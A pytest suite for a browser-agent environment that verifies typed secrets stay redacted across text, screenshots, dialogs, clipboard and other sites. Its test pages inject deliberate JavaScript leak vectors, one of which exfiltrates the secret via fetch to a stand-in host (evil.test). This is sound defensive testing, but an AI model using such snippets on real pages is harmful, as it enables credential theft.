"""A page that does all it can to show a secret, in real Chromium: nothing that leaves the session
holds its value, neither text nor picture; no other site gets it typed."""

from __future__ import annotations

import base64
import io
from collections.abc import AsyncIterator, Sequence
from functools import partial
from urllib.parse import quote

import pytest
import pytest_asyncio
from aiohttp import web
from PIL import Image, ImageChops

from envs.browser.chromium import Browsers
from envs.browser.egress import EgressProxy
from envs.browser.session import BrowserSession
from envs.browser.web_browser import WebBrowser
from envs.contract.actions import (
    Action,
    ActionError,
    Click,
    Clipboard,
    Drag,
    Key,
    Navigate,
    SetValue,
    Target,
    Tool,
    Type,
)
from envs.contract.observations import Observation, Observe, ScreenshotRequest
from envs.contract.secret import Secret
from envs.contract.session import StepReply
from envs.contract.task import Task

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]
ADDRESS = "127.0.0.2"
NAME = "{secret:password}"
VALUE, OTHER_VALUE = "Hunter&22", "Walker&77"
"""Equally long."""
EVERYTHING = Observe(
    screenshot=ScreenshotRequest(format="png"), text=True, console=True, windows=True
)
FORM = (
    "<!doctype html><title>Shop</title><style>*{font:16px monospace}</style>"
    "<form><input id=f></form><p id=p></p>"
)
PUT = "const put = (html) => { p.innerHTML = html; return p.firstChild; };"
LEAKS = {
    "text": "p.textContent = v",
    "capitals": "put('<b style=text-transform:uppercase></b>').textContent = v",
    "split over elements": "put([...v].map((c) => `<b>${c == '&' ? '&amp;' : c}</b>`).join(''))",
    "title": "document.title = v",
    "address": "history.replaceState(null, '', '?p=' + encodeURIComponent(v))",
    "fragment": "location.hash = v",
    "console": "console.log('x'.repeat(294) + v)",
    "error": "setTimeout(() => { throw new Error(v) })",
    "another field": "put('<input>').value = v",
    "text area": "put('<textarea></textarea>').value = v",
    "placeholder": "put('<input>').placeholder = v",
    "option": "put('<select><option></select>').options[0].text = v",
    "button": "put('<button></button>').textContent = v",
    "label": "put('<button>x</button>').ariaLabel = v",
    "heading cut": "put('<h1></h1>').textContent = 'x '.repeat(46) + v + ' more'",
    "alternative text": "put('<img src=/none>').alt = v",
    "shadow": "p.attachShadow({mode: 'open'}).innerHTML = '<b></b>';"
    "p.shadowRoot.firstChild.textContent = v",
    "frame": "put('<iframe srcdoc=x></iframe>').onload ="
    "(e) => { e.target.contentDocument.body.textContent = v }",
    "generated content": "p.dataset.v = v; put('<style>p::after{content:attr(data-v)}</style>')",
    "drawing": "put('<svg><text y=20></text></svg>').firstChild.textContent = v",
    "table": "put('<table><tr><td></table>').rows[0].cells[0].textContent = v",
    "blanks": "p.textContent = ' \\n ' + v + ' \\n '",
    "attribute": "put('<b>x</b>').title = v",
    "host name": "fetch(`http://${v.replace('&', '')}.evil.test/`).catch(() => {})",
}
GROUPS = {
    "grouped": "p.textContent = v.replace(/(.{4})/g, '$1 ')",
    "blanks inside": "p.innerHTML = [...v].map((c) => `<i>${c}</i>`).join('&shy;')",
    "object": "put(`<object type='text/html' data='/?show=${v}'></object>`)",
    "card": "f.type = 'text'; f.value = v.replace(/(.{4})/g, '$1-')",
}
"""How pages write the numbers of cards and accounts."""
DIALOG = {"dialog": "setTimeout(() => alert(v))"}


FIELDS = {
    "text area": "<textarea id=f></textarea>",
    "editable": "<div id=f contenteditable></div>",
    "short": "<input id=f maxlength=5>",
    "number": "<input id=f type=tel>",
}
"""Other fields than an input, which stay readable when something was typed."""


async def show(request: web.Request) -> web.Response:
    if "show" in request.query:
        return web.Response(text=request.query["show"], content_type="text/html")
    leak = (LEAKS | GROUPS | DIALOG).get(request.query.get("leak", ""), "")
    kind, _, field = request.query.get("leak", "").partition(": ")
    if kind == "field":
        form = FORM.replace("<input id=f>", FIELDS.get(field, "<input id=f>"))
        return web.Response(text=form, content_type="text/html")
    script = (
        f"<script>{PUT} f.oninput = () => {{ const v = f.value; f.type = 'password'; {leak} }}"
        "</script>"
    )
    return web.Response(text=FORM + script, content_type="text/html")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def port() -> AsyncIterator[int]:
    app = web.Application()
    app.router.add_get("/", show)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, ADDRESS, 0).start()
    yield runner.addresses[0][1]
    await runner.cleanup()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def session() -> AsyncIterator[BrowserSession]:
    async def resolve(host: str, port: int) -> Sequence[str]:
        return [ADDRESS]

    browsers = Browsers()
    proxy = EgressProxy(resolve, lambda address: address == ADDRESS)
    made = BrowserSession(browsers, None, partial(WebBrowser.open, proxy=proxy))
    yield made
    await made.close()
    await browsers.close()


async def begin(session: BrowserSession, port: int, value: str = VALUE, leak: str = "") -> None:
    sites = [f"shop.test:{port}"]
    secret = Secret.model_validate({"value": value, "allow": sites})
    await session.lend_secrets({"password": secret})
    task = Task(
        id="web",
        instruction="sign in",
        start_url=f"http://shop.test:{port}/?leak={quote(leak)}",
        allow=(*sites, f"other.test:{port}"),
        secrets=("password",),
    )
    await session.reset(task, Observe())


async def step(session: BrowserSession, *actions: Action) -> StepReply:
    return await session.step(list(actions), EVERYTHING)


def type_secret(text: str = NAME) -> Type:
    return Type(text=text, target=Target(selector="#f"))


def pixels(observation: Observation) -> Image.Image:
    assert observation.screenshot is not None
    return Image.open(io.BytesIO(base64.b64decode(observation.screenshot.data))).convert("RGB")


def without_picture(reply: StepReply) -> str:
    return reply.model_copy(
        update={"observation": reply.observation.model_copy(update={"screenshot": None})}
    ).model_dump_json()


async def value_in_field(session: BrowserSession) -> str:
    """As the page itself has it, past all redaction."""
    reply = await session.page.call("Runtime.evaluate", {"expression": "btoa(f.value)"})
    return base64.b64decode(reply["result"]["value"]).decode()


@pytest.mark.parametrize("leak", LEAKS)
async def test_a_value_is_in_no_text_and_no_picture(
    session: BrowserSession, port: int, leak: str
) -> None:
    pictures = []
    for value in (VALUE, OTHER_VALUE):
        await begin(session, port, value, leak)
        reply = await step(session, type_secret())
        assert reply.results[0].ok, reply.results
        assert await value_in_field(session) == value
        reply = await step(session)
        texts = without_picture(reply).lower()
        for spelling in (value, quote(value), value.replace("&", "&amp;")):
            assert spelling.lower() not in texts
        pictures.append(pixels(reply.observation))
    assert ImageChops.difference(*pictures).getbbox() is None


async def test_without_a_secret_the_same_pages_show_the_value(
    session: BrowserSession, port: int
) -> None:
    """The control: these pages do show what is typed."""
    pictures = []
    for value in (VALUE, OTHER_VALUE):
        await begin(session, port, "something else", "text")
        reply = await step(session, type_secret(value))
        assert value in without_picture(reply)
        pictures.append(pixels(reply.observation))
    assert ImageChops.difference(*pictures).getbbox() is not None


async def test_a_cut_value_is_not_shown_in_part(session: BrowserSession, port: int) -> None:
    await begin(session, port, VALUE, "heading cut")
    reply = await step(session, type_secret())
    assert reply.observation.tree is not None
    assert "Hun" not in reply.observation.tree.text


async def test_a_dialog_does_not_tell_it(session: BrowserSession, port: int) -> None:
    await begin(session, port, VALUE, "dialog")
    reply = await step(session, type_secret())
    assert reply.observation.dialog == f"alert: {NAME}"
    assert VALUE not in without_picture(reply)


async def test_another_site_of_the_task_does_not_get_it(session: BrowserSession, port: int) -> None:
    await begin(session, port)
    reply = await step(session, Navigate(url=f"http://other.test:{port}/"), type_secret())
    assert reply.results[1].error is ActionError.NOT_ALLOWED
    assert "is not for http://other.test" in (reply.results[1].message or "")
    assert await value_in_field(session) == ""


async def test_it_is_typed_into_fields_only(session: BrowserSession, port: int) -> None:
    await begin(session, port)
    reply = await step(session, Type(text=NAME))
    assert reply.results[0].error is ActionError.NOT_INTERACTABLE


async def test_a_name_that_the_task_does_not_have_is_refused(
    session: BrowserSession, port: int
) -> None:
    await begin(session, port)
    reply = await step(session, type_secret("{secret:other}"))
    assert "it has: password" in (reply.results[0].message or "")


async def test_tools_type_it_and_do_not_tell_it(session: BrowserSession, port: int) -> None:
    await begin(session, port, leak="text")
    reply = await step(session, SetValue(target=Target(selector="#f"), value=NAME))
    assert reply.results[0].ok
    assert await value_in_field(session) == VALUE
    for needle in ("hunter", "hun", "&22"):
        reply = await step(session, Tool(name="browser.find_text", arguments={"text": needle}))
        assert reply.results[0].error is ActionError.NOT_FOUND
    reply = await step(session, Tool(name="browser.page_text", arguments={}))
    assert reply.results[0].value is not None
    assert NAME in str(reply.results[0].value)


async def test_what_is_copied_is_its_name(session: BrowserSession, port: int) -> None:
    await begin(session, port, leak="another field")
    reply = await step(
        session,
        type_secret(),
        Key(keys=("ctrl", "a")),
        Key(keys=("ctrl", "c")),
        Clipboard(op="read"),
    )
    assert VALUE not in str(reply.results)


async def test_the_next_task_has_it_no_more(session: BrowserSession, port: int) -> None:
    await begin(session, port)
    task = Task(
        id="next",
        instruction="look",
        start_url=f"http://shop.test:{port}/",
        allow=(f"shop.test:{port}",),
    )
    await session.reset(task, Observe())
    reply = await step(session, type_secret())
    assert "it has: none" in (reply.results[0].message or "")


@pytest.mark.parametrize(
    "edits",
    [
        (Key(keys=("backspace",)),),
        (Key(keys=("home",)), Key(keys=("delete",))),
        (Key(keys=("left",), repeat=3), Type(text="x")),
        (Key(keys=("left",), repeat=4), Key(keys=("shift", "end")), Type(text="x")),
        (Key(keys=("backspace",)), Key(keys=("ctrl", "z")), Key(keys=("backspace",))),
    ],
    ids=["backspace", "delete", "insert", "replace", "undo"],
)
@pytest.mark.parametrize("field", ["", "text area", "editable", "short", "number"])
async def test_a_field_that_holds_it_is_emptied_by_an_edit_of_it(
    session: BrowserSession, port: int, edits: tuple[Action, ...], field: str
) -> None:
    await begin(session, port, leak=f"field: {field}")
    reply = await step(session, type_secret(), *edits)
    for part in ("hunte", "unter", "ter&", "&22"):
        assert part not in without_picture(reply).lower()


async def test_a_field_that_is_too_short_for_it_shows_no_part_of_it(
    session: BrowserSession, port: int
) -> None:
    await begin(session, port, leak="field: short")
    reply = await step(session, type_secret())
    assert "hun" not in without_picture(reply).lower()


@pytest.mark.parametrize("leak", ["", "another field", "text", "split over elements"])
async def test_no_part_of_it_is_copied(session: BrowserSession, port: int, leak: str) -> None:
    await begin(session, port, leak=leak)
    select = {
        "": [Key(keys=("home",)), Key(keys=("shift", "right"), repeat=4)],
        "another field": [
            Click(target=Target(selector="#p input")),
            Key(keys=("home",)),
            Key(keys=("shift", "right"), repeat=4),
        ],
    }.get(leak)
    reply = await step(session, type_secret())
    if select is None:
        box = await session.page.evaluate(
            "(() => { const r = document.createRange(); r.selectNodeContents(p);"
            "const b = r.getBoundingClientRect(); return [b.left, b.top, b.width, b.height]; })()"
        )
        left, top, width, height = box
        y = top + height / 2
        path = (Target(x=left, y=y), Target(x=left + width * 0.5, y=y))
        select = [Drag(path=path)]
    reply = await step(session, *select, Key(keys=("ctrl", "c")), Clipboard(op="read"))
    assert reply.results[-1].ok
    assert "hun" not in str(reply.results).lower(), reply.results


async def test_the_middle_button_pastes_no_part_of_it(session: BrowserSession, port: int) -> None:
    await begin(session, port, leak="another field")
    reply = await step(
        session,
        type_secret(),
        Click(target=Target(selector="#p input")),
        Key(keys=("home",)),
        Key(keys=("shift", "right"), repeat=4),
        Key(keys=("shift", "tab")),
        Click(target=Target(selector="#f"), button="middle"),
    )
    assert reply.results[-1].error is ActionError.NOT_ALLOWED


async def test_guesses_of_its_beginning_are_not_confirmed(
    session: BrowserSession, port: int
) -> None:
    await begin(session, port)
    for text in ("Hunt…", "x" * 40 + " Hunt…", "Hunx…", "x" * 40 + " Hunx…"):
        reply = await step(session, Clipboard(op="write", text=text), Clipboard(op="read"))
        assert NAME not in str(reply.results[1].value)
    reply = await step(session, type_secret("Hunter&2…" + " Hunt…"))
    assert NAME not in without_picture(reply)


async def test_selectors_do_not_ask_for_parts_of_it(session: BrowserSession, port: int) -> None:
    await begin(session, port, leak="attribute")
    await step(session, type_secret())
    replies = [
        await step(session, Click(target=Target(selector=f'#p b[title{operator}="{part}"]')))
        for operator, part in (("^=", "Hun"), ("^=", "Xun"), ("*=", "unt"), ("$=", "&22"))
    ]
    answers = {(reply.results[0].ok, reply.results[0].error) for reply in replies}
    assert answers == {(False, ActionError.NOT_ALLOWED)}


@pytest.mark.parametrize("leak", GROUPS)
async def test_a_value_that_a_page_writes_in_groups_is_not_shown(
    session: BrowserSession, port: int, leak: str
) -> None:
    pictures = []
    for value in ("4111222233334444", "5999888877776666"):
        await begin(session, port, value, leak)
        await step(session, type_secret())
        reply = await step(session)
        texts = without_picture(reply)
        digits = "".join(character for character in texts if character not in " -\u00a0")
        assert value not in digits
        pictures.append(pixels(reply.observation))
    assert ImageChops.difference(*pictures).getbbox() is None
